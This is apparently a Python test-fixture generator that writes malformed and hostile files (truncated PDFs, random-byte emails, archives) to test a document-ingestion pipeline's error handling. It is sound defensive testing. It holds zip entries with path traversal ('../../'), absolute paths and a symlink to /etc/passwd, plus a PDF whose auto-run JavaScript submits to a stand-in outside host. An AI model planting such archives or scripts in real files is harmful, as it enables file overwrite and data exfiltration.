"""A hostile release, made by code (no committed binaries): each file is one way real or malicious input goes
wrong. `make_hostile(folder)` writes them and returns what each should become: "read" or "row" (an error row)."""

from __future__ import annotations

import gzip
import io
import os
import tarfile
import zipfile
from pathlib import Path

from pdfgen import text_pdf
from rawzip import stored, write_zip, zipcrypto

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def make_hostile(folder: Path) -> dict[str, str]:
    folder.mkdir(parents=True, exist_ok=True)
    expect: dict[str, str] = {}
    good = text_pdf(folder / "good.pdf", ["The Town of Wexford paid Harlow Signal, Inc. $4,200.00."])
    expect["good.pdf"] = "read"
    whole = good.read_bytes()
    (folder / "truncated.pdf").write_bytes(whole[: len(whole) // 2])
    expect["truncated.pdf"] = "any"  # a reader may recover the first page; either way, no crash
    (folder / "header_only.pdf").write_bytes(b"%PDF-1.7\n")
    expect["header_only.pdf"] = "row"
    (folder / "broken_xref.pdf").write_bytes(whole.replace(b"startxref", b"startxrfe"))
    expect["broken_xref.pdf"] = "any"
    text_pdf(folder / "locked.pdf", ["secret"], encrypt="owner-secret", user_password="user-secret")
    expect["locked.pdf"] = "row"
    text_pdf(folder / "owner_locked.pdf", ["The Lakeport Police Department paid Corvane LLC."], encrypt="owner-secret")
    expect["owner_locked.pdf"] = "read"  # an owner password only (no user password): it opens
    javascript_pdf(folder / "javascript.pdf", "The Town of Wexford paid Brightwater Analytics.")
    expect["javascript.pdf"] = "read"  # the script is never run; the text is read
    (folder / "garbage.eml").write_bytes(os.urandom(2048))
    expect["garbage.eml"] = "row"
    (folder / "random.msg").write_bytes(OLE_MAGIC + os.urandom(4096))
    expect["random.msg"] = "row"
    (folder / "-leading dash.txt").write_text("The Lakeport Police Department replied.\n", encoding="utf-8")
    expect["-leading dash.txt"] = "read"
    (folder / "new\nline.txt").write_text("A name with a newline.\n", encoding="utf-8")
    expect["new\nline.txt"] = "read"
    (folder / "empty.pdf").write_bytes(b"")
    expect["empty.pdf"] = "row"
    inner = io.BytesIO()  # a zip nested 20 deep around one letter
    payload = b"The Town of Wexford answered."
    name = "letter.txt"
    for depth in range(20):
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w") as zipped:
            zipped.writestr(name, payload)
        payload, name = inner.getvalue(), f"level{depth}.zip"
    (folder / "nested.zip").write_bytes(payload)
    expect["nested.zip"] = "any"  # unpacked to a safe depth, then one row
    with tarfile.open(folder / "bundle.tar.gz", "w:gz") as tar:
        data = b"Letter inside a tarball."
        info = tarfile.TarInfo("inside.txt")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    expect["bundle.tar.gz"] = "any"  # unpacked: its letter is read
    (folder / "double.gz").write_bytes(gzip.compress(gzip.compress(b"nested gzip")))
    expect["double.gz"] = "any"  # decompressed twice: its text is read
    # an empty 7-Zip archive (its 32-byte signature header, no entries) and a RAR 5 signature: not unpacked,
    # each a row that names its format
    (folder / "records.7z").write_bytes(b"7z\xbc\xaf\x27\x1c\x00\x04\x8d\x9b\xd5\x0f" + b"\x00" * 20)
    expect["records.7z"] = "row"
    (folder / "records.rar").write_bytes(b"Rar!\x1a\x07\x01\x00" + os.urandom(64))
    expect["records.rar"] = "row"
    # entries a zip must not unpack (encrypted, a link, an absolute path, `..`) beside one it must
    write_zip(
        folder / "unsafe.zip",
        [
            zipcrypto("sealed.txt", b"Sealed letter.", b"portal-password"),
            stored("link.txt", b"/etc/passwd", mode=0o120777),
            stored("/tmp/absolute.txt", b"Absolute."),
            stored("../../escaped.txt", b"Escaped."),
            stored("letter.txt", b"The Lakeport Police Department wrote."),
        ],
    )
    expect["unsafe.zip!letter.txt"] = "read"
    for entry in ("sealed.txt", "link.txt", "/tmp/absolute.txt", "../../escaped.txt"):
        expect[f"unsafe.zip!{entry}"] = "row"
    return expect


def javascript_pdf(path: Path, text: str) -> Path:
    """A one-page PDF that runs JavaScript when opened (/OpenAction), written object by object."""
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(boot) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 6 0 R >> >> /AA << /O 5 0 R >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Action /S /JavaScript /JS (app.alert('opened'); this.submitForm('http://example.invalid/');) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    path.write_bytes(bytes(out))
    return path
